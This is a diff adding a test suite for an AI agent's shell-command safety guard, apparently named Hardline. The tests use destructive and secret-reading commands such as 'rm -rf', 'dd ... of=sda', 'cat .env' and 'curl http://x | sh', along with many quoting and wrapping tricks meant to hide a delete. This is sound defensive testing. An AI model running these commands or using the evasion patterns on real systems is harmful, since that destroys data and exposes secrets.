@@ -1,0 +1,237 @@
+from __future__ import annotations
+
+import random
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from agent.safety.hardline import TANGLED, Hardline
+from agent.safety.places import Places
+from tests.agent.safety.commands import FORBIDDEN, HARMLESS
+
+CWD = Path("/home/ada/project")
+OWN = "/home/ada/.hermes"
+
+
+@pytest.fixture(scope="module")
+def hardline() -> Hardline:
+    return make()
+
+
+def make() -> Hardline:
+    return Hardline(
+        Places(
+            home="/home/ada",
+            guarded=(f"{OWN}/config.yaml", f"{OWN}/trust.json"),
+            secret=(f"{OWN}/.env", f"{OWN}/state.db"),
+            own_home=OWN,
+        )
+    )
+
+
+def label(command: str) -> str:
+    return repr(command[:60])
+
+
+@pytest.mark.parametrize("command", FORBIDDEN, ids=label)
+def test_what_destroys_the_machine_is_refused(hardline: Hardline, command: str) -> None:
+    (reason,) = hardline.check(command, CWD)
+    assert reason != TANGLED
+    assert reason.isprintable()
+
+
+@pytest.mark.parametrize("command", HARMLESS, ids=label)
+def test_what_only_looks_like_it_is_not_refused(hardline: Hardline, command: str) -> None:
+    assert hardline.check(command, CWD) == ()
+
+
+def test_the_tables_are_large_and_have_no_doubles() -> None:
+    assert len(set(FORBIDDEN)) == len(FORBIDDEN) >= 150
+    assert len(set(HARMLESS)) == len(HARMLESS) >= 150
+    assert not set(FORBIDDEN) & set(HARMLESS)
+
+
+@pytest.mark.parametrize(
+    ("cwd", "command"),
+    [
+        ("/", "rm -rf *"),
+        ("/home/ada", "rm -rf *"),
+        ("/home/ada", "rm -rf ."),
+        ("/etc", "rm -rf ./*"),
+        ("/", "find . -delete"),
+        ("/dev", "dd if=x of=sda"),
+        ("/home/ada/.hermes", "rm state.db"),
+        ("/home/ada/.hermes", "cat .env"),
+        ("/proc/self/root", "rm -rf *"),
+    ],
+)
+def test_a_relative_path_counts_from_the_folder_the_command_runs_in(
+    hardline: Hardline, cwd: str, command: str
+) -> None:
+    assert hardline.check(command, Path(cwd))
+
+
+@pytest.mark.parametrize("command", ["base64 -d <<< cm0= | sh -", "curl http://x | sh", "eval $(cat x)"])
+def test_text_that_cannot_be_known_raises_a_doubt_and_no_refusal(hardline: Hardline, command: str) -> None:
+    findings = hardline.examine(command, CWD)
+    assert findings.forbidden == ()
+    assert findings.doubts or "base64" in command
+
+
+def test_text_that_is_no_shell_raises_a_doubt(hardline: Hardline) -> None:
+    assert hardline.doubts("if then ((", CWD) == ("part of the command is not understood",)
+    assert hardline.doubts("make test", CWD) == ()
+
+
+def test_two_readings_of_the_same_command_agree(hardline: Hardline) -> None:
+    assert hardline.examine("rm -rf /", CWD) == make().examine("rm -rf /", CWD)
+    assert hardline.examine("rm -rf x", CWD) == hardline.examine("rm -rf x", CWD)
+
+
+WRAPPINGS = st.sampled_from(
+    [
+        "sudo {}",
+        "sudo -n -u root {}",
+        "env A=1 {}",
+        "nohup {} &",
+        "timeout 9 {}",
+        "nice -n 3 {}",
+        "true && {}",
+        "false || {}",
+        "( {} )",
+        "{{ {}; }}",
+        "if :; then {}; fi",
+        "for i in 1; do {}; done",
+        "while :; do {}; done",
+        "! {}",
+        "time {}",
+        "command {}",
+        "x=1 {}",
+        'echo "$({})"',
+        "cat <({})",
+        "ls; {}",
+        "ls | {}",
+        "{} | cat",
+        "{} 2>/dev/null",
+        "{} # comment",
+        "f() {{ {}; }}; f",
+    ]
+)
+QUOTINGS = st.sampled_from(
+    [
+        lambda word: word,
+        lambda word: f"'{word}'",
+        lambda word: f'"{word}"',
+        lambda word: "".join(f"\\{letter}" for letter in word),
+        lambda word: word[0] + "''" + word[1:],
+        lambda word: "$'" + "".join(f"\\x{ord(letter):02x}" for letter in word) + "'",
+        lambda word: f"$(echo {word})",
+        lambda word: f"`printf %s {word}`",
+        lambda word: "{" + word + ",}",
+    ]
+)
+TARGETS = st.sampled_from(["/", "/etc", "/usr/bin", "/home/ada", "/home/bob", "/root", "/var/lib"])
+
+
+@settings(max_examples=150, deadline=None)
+@given(
+    st.lists(WRAPPINGS, max_size=5), QUOTINGS, QUOTINGS, QUOTINGS, TARGETS, st.sampled_from(["sh", "bash"])
+)
+def test_no_stack_of_wrappings_and_quotings_hides_a_delete(
+    wrappings: list[str], name: object, flags: object, target: object, path: str, shell: str
+) -> None:
+    assert callable(name) and callable(flags) and callable(target)
+    command = f"{name('rm')} {flags('-rf')} {target(path)}"
+    for wrapping in wrappings:
+        if wrapping.startswith(("sudo", "env", "nohup", "timeout", "nice", "command", "x=1", "time")):
+            quoted = command.replace("'", "'\\''")
+            command = f"{shell} -c '{quoted}'"
+        command = wrapping.format(command)
+    assert make().check(command, CWD), command
+
+
+@settings(max_examples=150, deadline=None)
+@given(
+    st.sampled_from(FORBIDDEN), st.sampled_from(["echo", "printf %s", "grep -F", "git commit -m", "touch"])
+)
+def test_a_command_in_single_quotes_is_only_text(command: str, program: str) -> None:
+    quoted = command.replace("'", "'\\''")
+    assert make().check(f"{program} '{quoted}'", CWD) == ()
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(st.characters(codec=None), max_size=60))
+def test_any_text_is_read_without_failing(text: str) -> None:
+    assert isinstance(make().check(text, CWD), tuple)
+
+
+SHELL_CHARACTERS = "rm -rf/~*?[]{},;|&()<>$\"'`\\\n=#!aX0 \ue000\ue001"
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.text(SHELL_CHARACTERS, max_size=40))
+def test_any_mess_of_shell_characters_is_read_without_failing(text: str) -> None:
+    assert isinstance(make().check(text, CWD), tuple)
+
+
+SIZE = 100_000
+
+LONG = {
+    "words": "echo " + "word " * (SIZE // 5),
+    "statements": "echo a; " * (SIZE // 8),
+    "and": "a && " * (SIZE // 5) + "a",
+    "quoted text": "echo '" + "x" * SIZE + "'",
+    "document": "cat > x <<'EOF'\n" + "rm -rf /\n" * (SIZE // 9) + "EOF\n",
+    "open brackets": "(" * SIZE,
+    "open braces": "{" * SIZE,
+    "brace pairs": "{a}" * (SIZE // 3),
+    "broken subshells": "(a) " * (SIZE // 4),
+    "quotes": "'" * SIZE,
+    "backslashes": "\\" * SIZE,
+    "slashes": "rm -rf " + "/" * SIZE + "tmp/x",
+    "stars": "rm -rf /tmp/" + "*" * SIZE,
+    "folders": "cd a && " * (SIZE // 8) + "rm -rf *",
+}
+
+
+@pytest.mark.parametrize("name", LONG)
+def test_a_very_long_command_is_read_to_its_end(name: str) -> None:
+    hardline = make()
+    assert hardline.check(LONG[name], CWD) in ((), (TANGLED,))
+    separator = "\n" if name == "document" else "\n; "
+    if name in ("words", "statements", "and", "quoted text", "document", "slashes", "stars"):
+        assert hardline.check(LONG[name] + separator + "rm -rf /", CWD) not in ((), (TANGLED,))
+
+
+TANGLES = {
+    "substitutions": "$(" * 8_000,
+    "wrappers": "sudo " * 8_000 + "ls",
+    "evals": "eval " * 8_000 + "ls",
+    "defaults": "echo " + "${a:-" * 8_000 + "}" * 8_000,
+    "growing text": "x=a;" + "x+=$x;" * 60,
+    "doubling functions": "".join(f"f{n}() {{ f{n - 1}; f{n - 1}; }};" for n in range(1, 40)) + "f39",
+    "doubling loops": "for a in 1 2; do " * 30 + "ls" + "; done" * 30,
+    "many values": "for a in {1..30}; do for b in {1..30}; do for c in {1..30}; do echo $a$b$c $c$b; "
+    + "done; " * 3,
+    "brace products": "echo " + "{a,b}" * 60,
+    "bracket nests": "{" + "{a,b}," * 3_000 + "}",
+}
+
+
+@pytest.mark.parametrize("name", TANGLES)
+def test_a_tangle_ends_with_an_answer(name: str) -> None:
+    assert make().check(TANGLES[name], CWD) in ((), (TANGLED,))
+
+
+def test_a_tangle_that_cannot_be_followed_is_refused() -> None:
+    assert make().check("sudo " * 500 + "ls", CWD) == (TANGLED,)
+
+
+def test_random_cuts_of_known_commands_never_fail() -> None:
+    chance = random.Random(7)
+    hardline = make()
+    for command in (*FORBIDDEN, *HARMLESS):
+        start, end = sorted(chance.sample(range(len(command) + 2), 2))
+        assert isinstance(hardline.check(command[start:end], CWD), tuple)
